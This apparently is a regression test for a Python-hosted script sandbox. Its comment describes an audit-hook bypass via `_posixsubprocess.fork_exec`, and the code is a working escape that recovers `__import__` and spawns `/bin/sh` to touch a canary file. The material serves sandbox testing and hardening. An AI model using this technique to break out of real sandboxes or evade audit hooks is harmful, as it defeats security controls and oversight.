// Round 5: a module the audit hook refuses to import may be loaded before the program
// (on Python 3.9 `crypto`'s `uuid` imports `platform`, which imports `subprocess`), and
// `_posixsubprocess.fork_exec` starts a process with no audit event. Its native functions
// are now refused wherever a module holds them (`subprocess._fork_exec` on 3.11+).
import crypto;
if (false) { getattr = null; }
f = getattr;
imp = f(f(print, "__globals__")["_py"], "__import__");
py = imp("builtins");
sys = imp("sys");
os = imp("os");
ps = sys.modules.get("_posixsubprocess");
if (ps == null) {
    ps = imp("_posixsubprocess");
}
argv = [os.fsencode("/bin/sh"), os.fsencode("-c"), os.fsencode("touch @CANARY_DIR@/r12")];
pipe = os.pipe();
keep = py.tuple([pipe[1]]);
exe = [os.fsencode("/bin/sh")];
fork_exec = py.getattr(ps, "fork_exec");
// (its arguments as `subprocess` passes them: 3.11 added process_group and allow_vfork)
if (sys.version_info[1] < 11) {
    pid = fork_exec(argv, exe, true, keep, null, null, -1, -1, -1, -1, -1, -1, pipe[0], pipe[1],
                    true, false, null, null, null, -1, null);
} else {
    pid = fork_exec(argv, exe, true, keep, null, null, -1, -1, -1, -1, -1, -1, pipe[0], pipe[1],
                    true, false, -1, null, null, null, -1, null, false);
}
os.waitpid(pid, 0);
